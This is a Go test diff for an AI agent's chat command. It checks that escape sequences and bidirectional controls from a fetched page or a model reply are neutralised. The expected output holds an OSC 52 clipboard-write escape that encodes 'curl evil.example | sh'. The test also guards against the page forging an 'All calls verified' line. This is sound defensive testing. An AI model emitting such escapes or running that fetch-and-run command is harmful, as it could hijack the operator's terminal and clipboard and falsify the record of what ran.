@@ -178,3 +178,35 @@ func TestAuditCSVExportHasNoFormulas(t *testing.T) {
 		t.Errorf("JSON lines export:\n%s\nwant the reason as typed", out)
 	}
 }
+
+// bot chat prints what the model, a fetched page and the model's reason
+// say with their escape sequences, C1 and bidirectional controls
+// neutralised, as the operator commands do: a page the agent fetched
+// cannot clear the operator's screen, write their clipboard, or rewrite
+// the line that says what ran.
+func TestChatPrintsNoTerminalEscapes(t *testing.T) {
+	t.Parallel()
+	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+		fmt.Fprint(w, terminalAttack)
+	}))
+	t.Cleanup(page.Close)
+	h := newHarness(t, "")
+	fetch := call("c1", "GET", page.URL+"/news", "")
+	h.model.Then(
+		llmtest.Reply("Fetching. "+terminalAttack, fetch),
+		llmtest.Reply("The page says: "+terminalAttack),
+	)
+	out := h.cli(t, "read the news\na\n", "chat", "--user", approver, "--thread", "chat-escapes")
+	if !strings.Contains(out, "The page says:") || !strings.Contains(out, `\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`) {
+		t.Fatalf("bot chat printed:\n%q\nwant the page's text, its escapes shown neutralised", out)
+	}
+	if found := terminalEscapes(out); found != nil {
+		t.Errorf("bot chat prints %q:\n%q", found, out)
+	}
+	for _, line := range strings.Split(out, "\n") {
+		if strings.HasPrefix(strings.TrimSpace(line), "All calls verified") {
+			t.Errorf("bot chat prints a line of its own from the page's text: %q", line)
+		}
+	}
+}
